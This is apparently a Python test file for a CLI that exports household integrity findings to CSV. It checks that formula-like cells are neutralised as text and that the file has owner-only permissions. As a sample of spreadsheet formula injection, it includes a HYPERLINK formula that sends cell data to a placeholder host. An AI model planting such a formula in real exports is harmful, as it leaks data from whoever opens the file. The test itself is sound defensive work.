"""`hhgraph integrity --region --as-of --csv`: the findings written as a user runs it, and read
back: a hostile name or household id (a cell beginning with `=`, `+`, `-`, `@`, a tab or a
carriage return) is written as text, never as a spreadsheet formula (OWASP), and the file is
its owner's alone."""

import csv
import os
import stat
import subprocess
import sys
from datetime import date
from pathlib import Path

from core.exports import FORMULA_STARTS
from graph.db import Graph
from tests.helpers import Neo4jTarget
from tests.scoring.kin import Family

HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"点击")'


def hhgraph(neo4j_target: Neo4jTarget, *args: str) -> "subprocess.CompletedProcess[str]":
    return subprocess.run(
        [sys.executable, "-m", "hhgraph", "integrity", *args],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
        env=os.environ | {"NEO4J_URI": neo4j_target.uri},
    )


def test_x1_x2_a_hostile_name_and_id_stay_text_in_the_csv(
    graph: Graph, neo4j_target: Neo4jTarget, tmp_path: Path
) -> None:
    """A name that is a formula (`=`) and a household id a feed allows to begin with `-`;
    `core.exports` itself is tested on every start (tests/core/test_exports.py)."""
    fam = Family()
    fam.household("-H1")
    dead = fam.person(HOSTILE, date(1940, 1, 1), "-H1", death_date=date(2026, 1, 2))
    fam.person("户主", date(1960, 1, 1), "-H1")
    fam.enrol(dead, "tekun")
    fam.enrol("-H1", "dibao", date(2025, 1, 1))
    fam.enrol("-H1", "marginal", date(2025, 2, 1))
    fam.load(graph)
    target = tmp_path / "findings.csv"
    done = hhgraph(
        neo4j_target,
        "--as-of",
        "2026-09-01",
        "--region",
        "440103",
        "--rule",
        "X1",
        "--rule",
        "X2",
        "--csv",
        str(target),
    )
    assert done.returncode == 0, done.stderr
    assert "2 findings (X1 1, X2 1)" in done.stdout
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    with target.open(encoding="utf-8", newline="") as written:
        rows = list(csv.DictReader(written))
    by_rule = {row["rule"]: row for row in rows}
    assert by_rule["X1"]["name"] == "'" + HOSTILE
    assert by_rule["X1"]["subject_id"] == dead
    assert by_rule["X2"]["subject_id"] == "'-H1"
    assert by_rule["X2"]["next_step"] == "review"
    for row in rows:
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values()), row


def test_x_an_unknown_rule_is_one_line(neo4j_target: Neo4jTarget) -> None:
    done = hhgraph(neo4j_target, "--as-of", "2026-09-01", "--region", "440103", "--rule", "X9")
    assert done.returncode == 1
    known = "X1, X2, X3, X4, X5, X6, X7, X8"
    assert done.stderr.strip() == f"error: no integrity check for X9; known: {known}"
